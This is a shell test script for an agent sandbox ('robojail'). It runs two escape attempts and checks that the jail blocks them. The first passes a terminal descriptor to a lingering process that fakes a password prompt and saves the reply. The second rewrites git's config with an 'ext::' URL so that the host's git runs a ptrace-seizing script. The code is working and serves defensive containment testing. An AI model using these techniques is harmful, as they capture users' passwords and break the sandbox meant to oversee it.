# P5: a session ends when its command ends, and begins whatever the agent has left behind.
# shellcheck shell=bash disable=SC2016
. "$TESTS/lib.sh"
make_jail j

attack "the other end of the terminal is sent to another session, which reads on after the end"
cat >"$T/keep.py" <<'END2'
# Takes a descriptor over the socket, and asks on it for a password a second later.
import array, os, socket, sys, time
s = socket.socket(socket.AF_UNIX)
s.bind("socket")
s.listen(1)
c, _ = s.accept()
_, anc, _, _ = c.recvmsg(10, socket.CMSG_LEN(4))
fd = array.array("i", anc[0][2][:4])[0]
open("kept", "w").close()
time.sleep(1)
os.write(fd, b"\r\npassword: ")
open("stolen", "wb").write(os.read(fd, 100))
END2
cat >"$T/send.py" <<'END2'
import array, os, socket, time
s = socket.socket(socket.AF_UNIX)
s.connect("socket")
s.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0]))])
while not os.path.exists("kept"):
    time.sleep(0.05)
print("".join("%d\n" % i for i in range(3000)) + "sent")
END2
cat >"$T/terminal.py" <<'END2'
# Runs a command on a terminal of its own, and types a password when one is asked for.
import os, pty, select, sys, time
pid, fd = pty.fork()
if pid == 0:
    os.execvp(sys.argv[1], sys.argv[1:])
end, out, typed = time.time() + 8, b"", False
while time.time() < end:
    if select.select([fd], [], [], 0.2)[0]:
        try:
            out += os.read(fd, 1000)
        except OSError:
            break
    if b"password" in out and not typed:
        os.write(fd, b"hunter2\r")
        typed = True
print("complete" if b"2999\r\nsent" in out else "LOST", len(out))
print("asked" if typed else "not asked", "" if time.time() < end else "TOO LONG")
END2
mkdir "$T/c"
cp "$T"/{keep,send}.py "$T/c"
cp "$T"/{keep,send}.py "$W"
(cd "$T/c" && exec timeout 20 python3 keep.py) >/dev/null 2>&1 &
eventually "it listens" test -S "$T/c/socket"
try env -C "$T/c" python3 "$T/terminal.py" python3 send.py
wait
control "a terminal that is read to its end" says "asked"
control "the next thing typed is taken" grep -q hunter2 "$T/c/stolen"
timeout 20 "$RJ" run j -- python3 keep.py >/dev/null 2>&1 </dev/null &
eventually "a session listens" test -S "$W/socket"
try python3 "$T/terminal.py" "$RJ" run j -- python3 send.py
held "the session ends" says "not asked"
held "all that it wrote is shown" says "complete"
wait
held "nothing was read" not test -e "$W/stolen"

attack "G's configuration makes the git that fetches main's branches run a tracer of itself"
cat >"$T/trace.py" <<'END2'
import ctypes, os, time
libc = ctypes.CDLL(None)
top, up = 0, os.getppid()
while up > 1:
    top, up = up, int(open("/proc/%d/stat" % up).read().rsplit(")", 1)[1].split()[1])
if os.fork() == 0:
    os.setsid()
    open(os.path.expanduser("~/traced"), "w").write("%d\n" % libc.ptrace(0x4206, top, 0, 0))
time.sleep(1000)
END2
cat >"$T/control.py" <<'END2'
# A child that is killed while somebody traces it cannot be waited for.
import ctypes, os, signal, sys, time
libc = ctypes.CDLL(None)
child = os.fork()
if child == 0:
    libc.prctl(0x59616d61, -1, 0, 0, 0)
    time.sleep(60)
tracer = os.fork()
if tracer == 0:
    time.sleep(0.3)
    print("traced", libc.ptrace(0x4206, child, 0, 0), flush=True)
    time.sleep(60)
time.sleep(1)
os.kill(child, signal.SIGKILL)
time.sleep(1)
print("STUCK" if os.waitpid(child, os.WNOHANG) == (0, 0) else "over", flush=True)
os.kill(tracer, signal.SIGKILL)
END2
try python3 "$T/control.py"
control "a killed child that is traced stays" says STUCK
cp "$T/trace.py" "$W"
sh_jail j 'cp trace.py ~ && git config --file /.robojail/git/config protocol.ext.allow always &&
	git config --file /.robojail/git/config url."ext::python3 $HOME/trace.py %S ".insteadOf /.robojail/host'
git -C "$repo" commit -q --allow-empty -m "Second"
try timeout --signal KILL 30 "$RJ" run j -- sh -c 'echo started; cat ~/traced'
held "the session begins all the same" says started
held "though it was traced" says "
0"
finish_rows
